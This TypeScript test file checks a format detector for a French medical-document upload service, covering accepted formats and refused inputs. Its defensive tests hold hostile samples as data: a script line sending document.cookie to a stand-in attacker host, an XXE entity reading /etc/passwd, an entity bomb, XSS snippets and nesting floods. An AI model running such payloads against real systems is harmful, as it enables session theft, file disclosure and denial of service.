import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { describe, it } from 'node:test';
import { detectFormat, parseXmlSafely, xmlShapeError, type DetectedFormat } from './formats';

const FIXTURES = new URL('../../demo/cda/', import.meta.url);
const cdaFiles = readdirSync(FIXTURES).filter((f) => f.endsWith('.xml'));

const pdf = Buffer.concat([
  Buffer.from('%PDF-1.7\n%'),
  Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]),
  Buffer.from('\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
]);
const jpeg = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0'), Buffer.alloc(64, 0x11)]);
const png = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]),
  Buffer.from('IHDR'),
  Buffer.alloc(17, 0x01),
]);
const cda = (body: string, root = '<ClinicalDocument xmlns="urn:hl7-org:v3">') =>
  Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${root}${body}</ClinicalDocument>`);

const errorOf = (result: DetectedFormat) => ('error' in result ? result.error : `accepted as ${result.format}`);
const refused = (bytes: Buffer, pattern: RegExp, name?: string) => assert.match(errorOf(detectFormat(bytes, name)), pattern);

describe('detecting a document’s format from its bytes', () => {
  it('recognises PDF, JPEG and PNG by their signatures', () => {
    assert.deepEqual(detectFormat(pdf), { format: 'pdf', mediaType: 'application/pdf' });
    assert.deepEqual(detectFormat(jpeg), { format: 'jpeg', mediaType: 'image/jpeg' });
    assert.deepEqual(detectFormat(png), { format: 'png', mediaType: 'image/png' });
  });

  it('never trusts the file name', () => {
    assert.equal(errorOf(detectFormat(pdf, 'photo.png')), 'accepted as pdf');
    assert.equal(errorOf(detectFormat(Buffer.from('Tension 12/8'), 'scan.pdf')), 'accepted as text');
    refused(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(60), Buffer.from('This program cannot be run in DOS mode')]), /programme Windows/, 'compte-rendu.pdf');
  });

  it('accepts each of the official CDA examples', () => {
    assert.equal(cdaFiles.length, 7);
    for (const file of cdaFiles) {
      assert.deepEqual(detectFormat(readFileSync(new URL(file, FIXTURES)), file), { format: 'cda', mediaType: 'text/xml' }, file);
    }
  });

  it('accepts plain UTF-8 text with accents, tabs and line breaks, with or without a byte order mark', () => {
    const note = 'Allergie : pénicilline\r\n\tÉruption cutanée en 2019 → éviter les β-lactamines.\n';
    assert.equal(errorOf(detectFormat(Buffer.from(note))), 'accepted as text');
    assert.equal(errorOf(detectFormat(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(note)]))), 'accepted as text');
    assert.equal(errorOf(detectFormat(Buffer.from('Tension < 12, glycémie > 1 g/L'))), 'accepted as text');
  });

  it('refuses an empty file', () => {
    refused(Buffer.alloc(0), /est vide/, 'vide.pdf');
  });

  it('refuses programs and archives', () => {
    refused(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), /programme/);
    refused(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('[Content_Types].xml')]), /archive/, 'lettre.docx');
  });

  it('refuses HTML pages, however they begin', () => {
    refused(Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), /page HTML/);
    refused(Buffer.from('  <!-- généré --><html lang="fr"><p>Bonjour</p></html>'), /page HTML/);
    refused(Buffer.from('<script>fetch("https://evil.example/?c="+document.cookie)</script>'), /page HTML/);
    refused(Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), /pas un document CDA/);
  });

  it('refuses XML with a DOCTYPE: external entities (XXE) and entity bombs', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' +
      '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>';
    refused(Buffer.from(xxe), /DOCTYPE/);
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)];
    const laughs = `<?xml version="1.0"?><!DOCTYPE lolz [${lol.join('')}]><ClinicalDocument xmlns="urn:hl7-org:v3">&lol9;</ClinicalDocument>`;
    refused(Buffer.from(laughs), /DOCTYPE/);
    refused(cda('<title>&nbsp;</title>'), /mal formé/);
  });

  it('refuses XML that is malformed, not CDA, or not UTF-8', () => {
    refused(cda('<title>Compte rendu</titre>'), /mal formé/);
    refused(cda('<title a=b>x</title>'), /mal formé/);
    refused(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), /pas un document CDA/);
    refused(cda('', '<ClinicalDocument xmlns="urn:example">'), /pas un document CDA/);
    refused(cda('', '<ClinicalDocument>'), /pas un document CDA/);
    refused(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><ClinicalDocument xmlns="urn:hl7-org:v3"/>'), /UTF-8/);
  });

  it('refuses broken UTF-8 and text with control characters', () => {
    refused(Buffer.from([0x43, 0x6f, 0x6d, 0x70, 0x74, 0x65, 0x20, 0x72, 0x65, 0x6e, 0x64, 0x75, 0x20, 0xe9, 0x74, 0xe9]), /UTF-8/);
    refused(Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x42, 0x00]), /UTF-8/);
    refused(Buffer.from([0xc3]), /UTF-8/);
    refused(Buffer.from('Texte\u0000caché'), /caractères de contrôle/);
    refused(Buffer.from('Texte \u001b[31m rouge'), /caractères de contrôle/);
    refused(Buffer.from('Texte \u0085 C1'), /caractères de contrôle/);
  });

  // Speed is measured by benchmarks, not asserted here: this checks hostile input ends in a clear refusal.
  it('refuses hostile input (comment floods, deep nesting) with a reason', () => {
    const flood = detectFormat(Buffer.from(' <!-- a -->'.repeat(20_000) + ' x'));
    const nested = detectFormat(Buffer.from('<a>'.repeat(50_000)));
    assert.ok('error' in flood && flood.error.length > 0);
    assert.ok('error' in nested && nested.error.length > 0);
  });
});

describe('parsing outside XML', () => {
  it('gives a document for well-formed XML and a French reason otherwise', () => {
    const ok = parseXmlSafely('<a xmlns="urn:x"><b>texte</b></a>');
    assert.ok('document' in ok && ok.document.documentElement?.localName === 'a');
    const bad = parseXmlSafely('<a><b></a>');
    assert.ok('error' in bad && /mal formé/.test(bad.error));
  });
});

describe('bounding XML before parsing it (security review #11)', () => {
  it('counts nesting and elements in one scan, skipping comments, CDATA and quoted attributes', () => {
    assert.equal(xmlShapeError('<a><b/><c x="<d><e>" y=\'>\'><!-- <f><g> --><![CDATA[<h><i>]]></c></a>', 2, 3), null);
    assert.match(xmlShapeError('<a><b><c/></b></a>', 2)!, /imbriqués \(2 au plus\)/);
    assert.match(xmlShapeError('<a><b/><b/><b/></a>', 10, 3)!, /trop d’éléments/);
    assert.equal(xmlShapeError('<a><b></a'), null, 'malformed: left to the parser');
  });

  it('refuses 100,000 nested elements in milliseconds, as a refusal of the content', () => {
    const started = performance.now();
    const deep = detectFormat(Buffer.from('<ClinicalDocument xmlns="urn:hl7-org:v3">' + '<a>'.repeat(100_000) + '</a>'.repeat(100_000) + '</ClinicalDocument>'));
    assert.ok('error' in deep && deep.invalidContent && /imbriqués/.test(deep.error));
    assert.ok(performance.now() - started < 1000, 'no DOM parse');
  });
});
